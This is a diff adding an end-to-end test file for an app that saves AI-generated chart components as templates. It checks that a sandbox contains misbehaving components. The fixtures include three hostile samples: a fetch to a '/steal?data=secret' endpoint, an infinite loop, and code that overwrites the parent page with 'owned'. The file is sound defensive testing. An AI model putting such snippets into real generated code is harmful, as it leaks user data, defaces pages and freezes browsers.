@@ -1,0 +1,95 @@
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { AppPage } from './pages/app-page.js';
+import { launchBrowser } from './support/launch-browser.js';
+import { startServer, type RunningServer } from './support/start-server.js';
+
+/** Generated components that misbehave; each must end as a readable error with the table, the page untouched. */
+const HOSTILE = {
+  network: `import React from 'react';
+export default function Viz() {
+  React.useEffect(() => { fetch('http://127.0.0.1:9/steal?data=secret').catch(() => undefined); }, []);
+  return <div>harmless looking</div>;
+}`,
+  loop: `export default function Viz() { while (true) {} }`,
+  parent: `export default function Viz() {
+  parent.document.body.innerHTML = 'owned';
+  return <div>never</div>;
+}`,
+};
+
+describe('templates and generated chart code', () => {
+  let server: RunningServer;
+  let browser: Browser;
+  let page: Page;
+  let app: AppPage;
+
+  const createTemplate = async (title: string, uiCode: string) => {
+    const response = await fetch(new URL('/api/templates', server.url), {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ title, prompt: title, generated_sql: "SELECT 'android' AS platform, 0.25 AS failure_rate", ui_code: uiCode, parameters: {}, data_source: 'sample' }),
+    });
+    expect(response.ok).toBe(true);
+  };
+
+  const openTemplateAndRerun = async (title: string) => {
+    await app.openTemplates();
+    await page.getByTestId('template-item').filter({ hasText: title }).click();
+    await page.getByRole('button', { name: 'Re-run on fresh data' }).click();
+  };
+
+  beforeAll(async () => {
+    server = await startServer();
+    browser = await launchBrowser();
+    page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
+    app = new AppPage(page, server.url);
+    await app.open();
+    await app.newThread();
+  });
+
+  afterAll(async () => {
+    await browser?.close();
+    await server?.stop();
+  });
+
+  it('saves an answer as a template, lists it, and re-runs it on fresh data', async () => {
+    await app.ask("What's the failure rate for Android users?");
+    await app.waitForAnswer();
+    const saved = page.waitForResponse((response) => new URL(response.url()).pathname === '/api/templates' && response.request().method() === 'POST');
+    await page.getByRole('button', { name: '☆ Save as template' }).last().click();
+    const body = JSON.parse((await saved).request().postData() ?? '{}') as Record<string, unknown>;
+    expect(body.prompt).toBe("What's the failure rate for Android users?");
+    expect(String(body.generated_sql)).toMatch(/SELECT/i);
+    expect(String(body.ui_code)).toContain('export default function Viz');
+
+    const rerun = page.waitForResponse((response) => new URL(response.url()).pathname === '/api/tools/sql');
+    await openTemplateAndRerun("What's the failure rate for Android users?");
+    expect((await rerun).ok()).toBe(true);
+    const dialog = page.getByRole('dialog', { name: 'Templates' });
+    await dialog.getByText(/Fresh result/).waitFor();
+    await dialog.locator('[data-testid="chart-status"][data-state="rendered"]').waitFor({ timeout: 30_000 });
+    await app.screenshot('11-template-rerun');
+    await page.keyboard.press('Escape');
+  });
+
+  it.each(Object.entries(HOSTILE))('contains a component that misbehaves: %s', async (name, code) => {
+    await createTemplate(`hostile ${name}`, code);
+    const outgoing: string[] = [];
+    page.on('request', (request) => outgoing.push(request.url()));
+    await openTemplateAndRerun(`hostile ${name}`);
+    const dialog = page.getByRole('dialog', { name: 'Templates' });
+    const error = dialog.getByTestId('chart-error');
+    await error.waitFor({ timeout: 30_000 });
+    expect(await error.innerText()).toMatch(name === 'network' ? /tried to reach/ : name === 'loop' ? /stopped responding/ : /cross-origin|Blocked a frame/);
+    // The table stands in for the chart, and the page itself still works.
+    expect(await dialog.getByTestId('results-table').getByRole('row').count()).toBeGreaterThan(1);
+    expect(outgoing.filter((url) => url.includes('127.0.0.1:9'))).toEqual([]);
+    expect(await page.locator('body').innerText()).not.toContain('owned');
+    await app.screenshot(`12-hostile-${name}`);
+    await page.keyboard.press('Escape');
+    await page.getByLabel('Search threads').fill('x');
+    expect(await page.getByLabel('Search threads').inputValue()).toBe('x');
+    await page.getByLabel('Search threads').fill('');
+  });
+});
